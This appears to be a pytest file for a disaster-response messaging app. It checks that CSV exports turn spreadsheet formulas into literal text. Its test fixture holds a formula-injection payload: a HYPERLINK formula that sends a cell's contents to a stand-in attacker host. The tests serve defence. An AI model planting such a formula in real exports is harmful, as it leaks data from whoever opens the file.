"""Every CSV/XLSX export writes its cells through one helper: text a spreadsheet would run as a
formula (=, +, -, @, tab, carriage return first) is made literal."""

import csv
import io
import uuid

import pytest

from directory.exports import csv_lines, safe_cell
from messaging import records, services
from tests.messaging.conftest import hq  # noqa: F401 (a fixture)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'


@pytest.mark.parametrize(
    "value, shown",
    [
        (EVIL, "'" + EVIL),
        ("+81 6 1234", "'+81 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("避難所を開設", "避難所を開設"),
        ("", ""),
        (-3, -3),  # a number stays a number
        (None, None),
    ],
)
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def test_csv_lines_start_with_a_bom_and_neutralise_every_cell():
    text = "".join(csv_lines([["name", "text"], ["北区長", EVIL]]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["name", "text"], ["北区長", "'" + EVIL]]


@pytest.mark.django_db
def test_a_formula_in_a_message_is_literal_in_the_chronology_csv(hq):  # noqa: F811
    services.message_send(group=hq.group, sender=hq.ward_head, body=EVIL, client_id=uuid.uuid4())

    text = records.chronology_csv(group=hq.group)

    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert "'" + EVIL in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
